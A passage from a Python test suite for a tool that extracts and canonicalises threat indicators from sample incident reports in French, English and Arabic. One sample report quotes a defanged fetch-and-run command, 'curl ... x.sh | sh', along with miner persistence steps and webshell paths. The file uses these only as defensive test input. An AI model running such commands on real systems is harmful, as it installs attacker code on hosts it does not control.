    "cve CVE-2023-4966",
    "ipv4 45.137.21.9",
    "domain update-check.ru",
]

DEFACEMENT_FR = """\
Défiguration du portail www.commune-exemple.ma : la page d’accueil a été remplacée le 3 mars.
Pages modifiées : https://www.commune-exemple.ma/index.php?page=accueil,
https://www.commune-exemple.ma/uploads/shell.php (webshell), et
http://www.commune-exemple.ma/news/(archive)/2024.html.
Le groupe revendique l’attaque sur https://t.me/exemple_team et sur zone-h
(http://www.zone-h.org/mirror/id/41234567).
Accès depuis 196.200.145.12 et 196.200.145.13 ; l’exploit visait CVE-2021-41773 (Apache 2.4.49).
"""

DEFACEMENT_FR_EXPECTED = [
    "domain www.commune-exemple.ma",
    "url https://www.commune-exemple.ma/index.php?page=accueil",
    "url https://www.commune-exemple.ma/uploads/shell.php",
    "url http://www.commune-exemple.ma/news/(archive)/2024.html",
    "url https://t.me/exemple_team",
    "domain t.me",
    "url http://www.zone-h.org/mirror/id/41234567",
    "domain www.zone-h.org",
    "ipv4 196.200.145.12",
    "ipv4 196.200.145.13",
    "cve CVE-2021-41773",
]

DDOS_EN = """\
DDoS against dns1.gov.example between 14:05 and 16:30 UTC (peak 48.5 Gbps, 3.2 Mpps).
Top sources (CSV excerpt):
src_ip,packets
203.0.113.10,120034
203.0.113.11,98210
198.51.100.7,75002
2001:db8:85a3::8a2e:370:7334,1200
203.0.113.10,5
Reflection through open resolvers 192.0.2.53 and 192.0.2.54 (amplification factor 54.6).
Internal range 10.20.0.0/16 was not involved; netmask 255.255.0.0.
"""

DDOS_EN_EXPECTED = [
    "domain dns1.gov.example",
    "ipv4 203.0.113.10",
    "ipv4 203.0.113.11",
    "ipv4 198.51.100.7",
    "ipv6 2001:db8:85a3::8a2e:370:7334",
    "ipv4 192.0.2.53",
    "ipv4 192.0.2.54",
]

ADVISORY_FR = """\
Bulletin de sécurité MA-CERT n° 2024-0417 : vulnérabilités critiques dans Palo Alto PAN-OS.
Références : CVE-2024-3400 ; cve-2024-3401 ; CVE‑2024‑21762 (FortiOS) ; voir
https://security.paloaltonetworks.com/CVE-2024-3400.
Versions affectées : PAN-OS 11.1.0 à 11.1.2-h3 ; la version 10.2.9.1 est corrigée.
Indicateurs : le fichier update.py, le script bot.pl et l’adresse 172.233.228.93.
Mesures : appliquer le correctif, e.g. la mise à jour 11.1.2-h4 ; cf. art. 12 de la loi 05-20.
"""

ADVISORY_FR_EXPECTED = [
    "cve CVE-2024-3400",
    "cve CVE-2024-3401",
    "cve CVE-2024-21762",
    "url https://security.paloaltonetworks.com/CVE-2024-3400",
    "domain security.paloaltonetworks.com",
    "ipv4 172.233.228.93",
]

ADVISORY_EN = """\
Advisory: active exploitation of Ivanti Connect Secure (CVE-2023-46805, CVE-2024-21887).
Observed callbacks: hxxps://symantke[.]com/api, hxxp://gpoaccess[.]com/x.php and
2a05:d018:1e6:8a00::1 (AWS). Webshell SHA-1: 4F3B0D8BDE0E9A4E3C0A3E8F0C5A9B7D6E5F4A3B.
Affected: ICS 9.1R18.3 and 22.5R2.1; update to build 22.5.2.1 or later.
Report issues to soc@cert.example or PGP key 0x1234ABCD.
"""

ADVISORY_EN_EXPECTED = [
    "cve CVE-2023-46805",
    "cve CVE-2024-21887",
    "url https://symantke.com/api",
    "domain symantke.com",
    "url http://gpoaccess.com/x.php",
    "domain gpoaccess.com",
    "ipv6 2a05:d018:1e6:8a00::1",
    "sha1 4f3b0d8bde0e9a4e3c0a3e8f0c5a9b7d6e5f4a3b",
    "email soc@cert.example",
    "domain cert.example",
]

MALWARE_LINUX_EN = """\
A cryptominer was dropped on web01 via `curl -s hxxp://45.9.148[.]99/x.sh | sh`.
It installs libprocesshider.so, edits /etc/ld.so.preload and adds an SSH key (id_rsa.pub)
for root. The miner connects to pool.supportxmr.com:443 and to 2a01:4f8:c17:b8f::2.
Wallet file config.json; process name kworkerds.
"""

MALWARE_LINUX_EN_EXPECTED = [
    "url http://45.9.148.99/x.sh",
    "ipv4 45.9.148.99",
    "domain pool.supportxmr.com",
    "ipv6 2a01:4f8:c17:b8f::2",
]

ARABIC_FR = """\
بلاغ: تم رصد اتصال مشبوه من 185.220.101.4 نحو evil[.]example.
Détail : l’hôte a résolu « c2.evil.example » puis contacté 185.220.101.4.
"""

ARABIC_FR_EXPECTED = [
    "ipv4 185.220.101.4",
    "domain evil.example",
    "domain c2.evil.example",
]

REPORTS = [
    ("phishing-fr", PHISHING_FR, PHISHING_FR_EXPECTED),
    ("ransomware-en", RANSOMWARE_EN, RANSOMWARE_EN_EXPECTED),
    ("defacement-fr", DEFACEMENT_FR, DEFACEMENT_FR_EXPECTED),
    ("ddos-en", DDOS_EN, DDOS_EN_EXPECTED),
    ("advisory-fr", ADVISORY_FR, ADVISORY_FR_EXPECTED),
    ("advisory-en", ADVISORY_EN, ADVISORY_EN_EXPECTED),
    ("linux-en", MALWARE_LINUX_EN, MALWARE_LINUX_EN_EXPECTED),
    ("arabic-fr", ARABIC_FR, ARABIC_FR_EXPECTED),
]


@pytest.mark.parametrize(
    ("text", "expected"), [(t, e) for _, t, e in REPORTS], ids=[n for n, _, _ in REPORTS]
)
def test_report(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", [t for _, t, _ in REPORTS], ids=[n for n, _, _ in REPORTS])
def test_extracted_values_are_canonical(text: str) -> None:
    for observable in extract(text):
        assert canonicalise(observable.type, observable.value) == observable.value


# --- ordering, deduplication, the dataclass -----------------------------------------------


def test_order_of_first_appearance_and_deduplication() -> None:
    text = "b.example puis a.example, 10.0.0.2, b.example, B.EXAMPLE et 10.0.0.1 puis 10.0.0.2"
    assert found(text) == [
        "domain b.example",
        "domain a.example",
        "ipv4 10.0.0.2",
        "ipv4 10.0.0.1",
    ]


def test_url_host_follows_the_url_and_is_not_repeated() -> None:
    text = "evil.example puis http://evil.example/a puis http://evil.example/b"
    assert found(text) == [
        "domain evil.example",
        "url http://evil.example/a",
        "url http://evil.example/b",
    ]


def test_same_value_different_types_are_distinct() -> None:
    text = "x@evil.example et evil.example"
    assert found(text) == ["email x@evil.example", "domain evil.example"]


def test_observable_is_frozen_and_hashable() -> None:
    observable = Observable(ObservableType.IPV4, "192.0.2.1")
    with pytest.raises(dataclasses.FrozenInstanceError):
        observable.value = "x"  # type: ignore[misc]
    assert {observable, Observable(ObservableType.IPV4, "192.0.2.1")} == {observable}
    assert extract("192.0.2.1") == [observable]


def test_observable_types_are_the_public_names() -> None:
    assert [t.value for t in ObservableType] == [
        "ipv4",
        "ipv6",
        "domain",
        "url",
        "email",
        "md5",
        "sha1",
        "sha256",
        "cve",
    ]
    assert ObservableType("sha256") is ObservableType.SHA256
    assert f"{ObservableType.CVE}" == "cve"


def test_extract_is_deterministic() -> None:
    assert extract(PHISHING_FR) == extract(PHISHING_FR)


# --- canonicalise -------------------------------------------------------------------------

CANONICAL = [
    ("ipv4", "192.0.2.1", "192.0.2.1"),
    ("ipv4", " 192.0.2.1 ", "192.0.2.1"),
    ("ipv4", "185.220.101[.]4", "185.220.101.4"),
    ("ipv4", "100.64.0.1", "100.64.0.1"),
    ("ipv6", "2001:DB8::1", "2001:db8::1"),
    ("ipv6", "2001:0db8:0000:0000:0000:0000:0000:0001", "2001:db8::1"),
    ("ipv6", "[2001:db8::1]", "2001:db8::1"),
    ("ipv6", "fe80::1%eth0", "fe80::1"),
    ("ipv6", "::FFFF:192.0.2.1", "::ffff:192.0.2.1"),
    ("ipv6", "::", "::"),
    ("domain", "Evil.Example.", "evil.example"),
    ("domain", "evil[.]example", "evil.example"),
    ("domain", "EVIL(dot)COM", "evil.com"),
    ("domain", "exämple.com", "xn--exmple-cua.com"),
    ("domain", "dc01.corp.local", "dc01.corp.local"),
    ("domain", "ad.ministere.internal", "ad.ministere.internal"),
    ("domain", "update.zip", "update.zip"),
    ("domain", "x.onion", "x.onion"),
    ("domain", "_dmarc.evil.ru", "_dmarc.evil.ru"),
    ("url", "hxxps[:]//Evil[.]COM:443", "https://evil.com/"),
    ("url", "HTTP://EVIL.example/A?b=C#D", "http://evil.example/A?b=C#D"),
    ("url", "http://[2001:DB8::1]:8080/x", "http://[2001:db8::1]:8080/x"),
    ("url", "ftp://files.evil.ru:21/x", "ftp://files.evil.ru/x"),
    ("url", "http://srv.corp.local/x", "http://srv.corp.local/x"),
    ("url", "http://user:pw@evil.ru:8443", "http://user:pw@evil.ru:8443/"),
    ("email", "John.Doe[at]Evil[.]COM", "john.doe@evil.com"),
    ("email", "admin@corp.local", "admin@corp.local"),
    ("email", "x+tag@evil.ru", "x+tag@evil.ru"),
    ("md5", MD5.upper(), MD5),
    ("md5", f"  {MD5}\n", MD5),
    ("md5", "1" * 32, "1" * 32),
    ("sha1", SHA1.upper(), SHA1),
    ("sha256", SHA256.upper(), SHA256),
    ("cve", "cve-2024-3400", "CVE-2024-3400"),
    ("cve", "CVE\u20112023\u20114966", "CVE-2023-4966"),
    ("cve", "CVE-2021-44228", "CVE-2021-44228"),
    (ObservableType.DOMAIN, "evil.example", "evil.example"),
]

INVALID = [
    ("ipv4", "999.1.1.1", "out of range"),
    ("ipv4", "1.2.3.256", "out of range"),
    ("ipv4", "01.2.3.4", "leading zero"),
    ("ipv4", "1.2.3", "four dot-separated octets"),
    ("ipv4", "1.2.3.4.5", "four dot-separated octets"),
    ("ipv4", "a.b.c.d", "not a decimal number"),
    ("ipv4", "1.2.3.٤", "not a decimal number"),
    ("ipv4", "2001:db8::1", "four dot-separated octets"),
    ("ipv4", "", "empty"),
    ("ipv4", "   ", "empty"),
    ("ipv6", "gggg::1", "not a valid IPv6"),
    ("ipv6", "1.2.3.4", "it is an IPv4 address"),
    ("ipv6", "10:30:45", "not a valid IPv6"),
    ("ipv6", "1::2::3", "not a valid IPv6"),
    ("domain", "invoice.pdf", "known top-level domain"),
    ("domain", "localhost", "at least two labels"),
    ("domain", "1.2.3.4", "looks like an IP address"),
    ("domain", "-bad.com", "label '-bad'"),
    ("domain", "bad-.com", "label 'bad-'"),
    ("domain", "a..com", "label ''"),
    ("domain", "a" * 64 + ".com", "label"),
    ("domain", "evil com", "label"),
    ("domain", ".".join(["abcdefghi"] * 26) + ".com", "longer than 253"),
    ("url", "evil.example/x", "must start with one of"),
    ("url", "javascript:alert(1)", "must start with one of"),
    ("url", "http://evil.example/a b", "whitespace"),
    ("url", "http://", "no host"),
    ("url", "http://localhost/", "not a fully qualified name"),
    ("url", "http://999.1.1.1/", "out of range"),
    ("url", "http://evil.ru:99999/", "cannot be parsed"),
    ("url", "http://[::1/", "cannot be parsed"),
    ("email", "nobody", "local-part@domain"),
    ("email", "@evil.ru", "local-part@domain"),
    ("email", "a@b@evil.ru", "local-part@domain"),
    ("email", "a..b@evil.ru", "not a valid local part"),
    ("email", "x@invoice.pdf", "known top-level domain"),
    ("email", "a" * 65 + "@evil.ru", "not a valid local part"),
    ("md5", MD5[:-1], "must be 32 hexadecimal characters"),
    ("md5", SHA1, "must be 32 hexadecimal characters"),
    ("sha1", MD5, "must be 40 hexadecimal characters"),
    ("sha256", SHA256 + "0", "must be 64 hexadecimal characters"),
    ("sha256", "z" + SHA256[1:], "non-hexadecimal character 'z'"),
    ("sha256", "abc", "SHA-256 must be 64"),
    ("cve", "CVE-24-1", "not a CVE identifier"),
    ("cve", "CVE-2024-340", "not a CVE identifier"),
    ("cve", "2024-3400", "not a CVE identifier"),
    ("cve", "CVE-1998-0001", "outside 1999-2099"),
    ("cve", "CVE-2024-01234", "leading 0"),
    ("fqdn", "evil.example", "unknown observable type 'fqdn'"),
    ("IPV4", "192.0.2.1", "unknown observable type"),
]


@pytest.mark.parametrize(("kind", "value", "expected"), CANONICAL, ids=case_id)
def test_canonicalise(kind: str, value: str, expected: str) -> None:
    assert canonicalise(kind, value) == expected
    assert canonicalise(kind, expected) == expected


@pytest.mark.parametrize(("kind", "value", "message"), INVALID, ids=case_id)
def test_canonicalise_rejects(kind: str, value: str, message: str) -> None:
    with pytest.raises(ValueError) as info:
        canonicalise(kind, value)
    assert isinstance(info.value, InvalidObservable)
    assert message in str(info.value)


# --- robustness: linear time on adversarial input -----------------------------------------

ADVERSARIAL = {
    "dots": "a.",
    "digit-dots": "1.",
    "colons": ":",
    "hex-colons": "a:",
    "hex": "a",
    "at-signs": "a@",
    "at-dots": "a@a.",
    "brackets": "[.]",
    "open-brackets": " [ ",
    "spaces": " ",
    "hyphens": "a-",
    "schemes": "hxxp",
    "closing-parens": ")",
    "cve-prefix": "CVE-2024-",
    "ipv6-groups": "1:2:3:4:5:6:7:8:",
    "digits": "1234567890",
}


@pytest.mark.parametrize("unit", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_adversarial_input_is_linear(unit: str) -> None:
    # 100 kB each: a quadratic pattern would take minutes here, a linear one milliseconds
    assert len(extract(unit * (100_000 // len(unit)))) <= 1


def test_adversarial_url_tail() -> None:
    assert found("http://a.example/" + ")" * 100_000) == [
        "url http://a.example/",
        "domain a.example",
    ]


def test_one_megabyte_mixed_report() -> None:
    chunk = (
        "x.y@z[.]com hxxp://1.2.3[.]4/ 2001:db8::1 evil.example "
        + "a." * 50
        + ":" * 50
        + "[.]" * 20
        + " Le serveur a été compromis.\n"
    )
    text = chunk * (1_000_000 // len(chunk))
    assert len(text) > 990_000
    assert found(text) == [
        "email x.y@z.com",
        "domain z.com",
        "url http://1.2.3.4/",
        "ipv4 1.2.3.4",
        "ipv6 2001:db8::1",
        "domain evil.example",
    ]


# --- packaging and purity -----------------------------------------------------------------


def test_tld_list_is_shipped_and_sane() -> None:
    raw = resources.files("incidents").joinpath("data/tlds.json").read_text(encoding="utf-8")
    tlds = json.loads(raw)["tlds"]
    assert len(tlds) > 1400
    assert tlds == sorted(set(tlds))
    assert all(tld == tld.lower() and "." not in tld for tld in tlds)
    assert {"ma", "fr", "com", "org", "zip", "mov", "xn--p1ai"} <= set(tlds)
    assert not {"pdf", "exe", "docx", "js", "txt", "png", "local"} & set(tlds)


@pytest.mark.parametrize(
    "module", ["observables", "observable_values", "observable_context", "refang"]
)
def test_modules_are_pure(module: str) -> None:
    source = Path(__file__).resolve().parents[2] / "incidents" / f"{module}.py"
    tree = ast.parse(source.read_text(encoding="utf-8"))
    imported: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    allowed = {
        "__future__",
        "bisect",
        "dataclasses",
        "enum",
        "functools",
        "importlib",
        "incidents",
        "ipaddress",
        "json",
        "re",
        "urllib",
    }
    assert imported <= allowed


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("version du client 1.2.3.4", []),
        ("la version du navigateur est 10.2.0.1", []),
        ("build n° 6.1.7601.1", []),
        ("depuis 185.220.101.4; version 3", [("ipv4", "185.220.101.4")]),
        ("connexion 10.0.0.5 avec la version du client", [("ipv4", "10.0.0.5")]),
        ("release notes. Attaque depuis 203.0.113.9", [("ipv4", "203.0.113.9")]),
    ],
)
def test_version_words_a_few_words_back_in_the_same_clause(
    text: str, expected: list[tuple[str, str]]
) -> None:
    assert [(o.type.value, o.value) for o in extract(text)] == expected
